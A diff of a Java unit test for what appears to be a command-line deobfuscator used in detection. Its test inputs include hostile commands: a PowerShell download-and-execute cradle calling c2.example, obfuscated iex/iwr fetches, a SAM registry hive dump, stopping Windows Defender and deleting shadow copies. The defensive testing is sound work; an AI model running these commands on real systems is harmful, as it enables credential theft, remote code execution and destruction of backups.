@@ -16,7 +16,8 @@ import org.junit.jupiter.params.provider.ValueSource;
 
 class DecodedCommandLineTest {
 
-    private static final String CRADLE = "IEX (New-Object Net.WebClient).DownloadString('http://c2.example/a')";
+    private static final String CRADLE =
+            "Invoke-Expression (New-Object Net.WebClient).DownloadString('http://c2.example/a')";
 
     @ParameterizedTest
     @ValueSource(
@@ -64,7 +65,7 @@ class DecodedCommandLineTest {
 
         DecodedCommandLine decoded = DecodedCommandLine.of(line);
 
-        assertThat(decoded.forms()).hasSizeLessThanOrEqualTo(DecodedCommandLine.DEEPEST + 1);
+        assertThat(decoded.forms()).hasSizeLessThanOrEqualTo(DecodedCommandLine.DEEPEST + 2);
         assertThat(decoded.isBounded()).isTrue();
     }
 
@@ -85,6 +86,40 @@ class DecodedCommandLineTest {
     }
 
     @Test
+    void words_that_quotes_divide_are_put_together_and_an_apostrophe_stays() {
+        assertThat(plain("cmd /c r\"e\"g s\"av\"e hk\"l\"m\\s\"a\"m C:\\1.bin"))
+                .isEqualTo("cmd /c reg save hklm\\sam C:\\1.bin");
+        assertThat(plain("msg * Don't switch off")).isEqualTo("msg * Don't switch off");
+        assertThat(plain("copy \"C:\\a b\" \"D:\\c d\"")).isEqualTo("copy \"C:\\a b\" \"D:\\c d\"");
+    }
+
+    @Test
+    void short_names_of_powershell_are_written_out_where_a_command_stands() {
+        assertThat(plain("powershell -nop -c \"spsv WinDefend -fo;sp $k sp 1\""))
+                .isEqualTo("powershell -nop -c \"Stop-Service WinDefend -fo;Set-ItemProperty $k sp 1\"");
+        assertThat(plain("powershell -c irm x.example|iex"))
+                .isEqualTo("powershell -c Invoke-RestMethod x.example|Invoke-Expression");
+        assertThat(plain("notepad.exe ;iex a")).isEqualTo("notepad.exe ;iex a");
+    }
+
+    @Test
+    void commands_that_are_looked_up_by_a_pattern_are_named() {
+        assertThat(plain("powershell -w 1 -c .(gcm i?x)(.(gcm i?r) 203.0.113.9/l)"))
+                .contains("Invoke-Expression", "Invoke-WebRequest", "203.0.113.9/l");
+        assertThat(plain("powershell -c &(gcm *-Ex*ion) $a")).contains("Invoke-Expression");
+        assertThat(PowerShellNames.matches("*".repeat(40), "Invoke-Expression")).isTrue();
+        assertThat(PowerShellNames.matches("*a".repeat(20), "Invoke-Expression"))
+                .isFalse();
+    }
+
+    @Test
+    void texts_in_variables_are_put_where_they_are_used() {
+        assertThat(plain("powershell -c \"$k='HKLM:\\SOFT'+'WARE\\Policies';Set-ItemProperty $k x 1\""))
+                .contains("Set-ItemProperty HKLM:\\SOFTWARE\\Policies x 1");
+        assertThat(plain("powershell -c \"$a=Get-Date;$a\"")).isEqualTo("powershell -c \"$a=Get-Date;$a\"");
+    }
+
+    @Test
     void variables_of_cmd_are_put_in() {
         assertThat(plain("cmd /V:ON /C \"set a=vssadmin&&set b=delete shadows&&call %a% %b% /all\""))
                 .contains("call vssadmin delete shadows /all");
@@ -97,8 +132,8 @@ class DecodedCommandLineTest {
     void texts_in_pieces_are_joined() {
         assertThat(plain("$w.('Down'+'load'+'String')")).contains("DownloadString");
         assertThat(plain("& (\"{1}{0}\" -f 'X','IE') $a")).contains("'IEX'");
-        assertThat(plain("I`E`X $a; sh -c 'cat${IFS}/etc/passwd'"))
-                .contains("IEX $a")
+        assertThat(plain("q`a`x $a; sh -c 'cat${IFS}/etc/passwd'"))
+                .contains("qax $a")
                 .contains("cat /etc/passwd");
     }
 
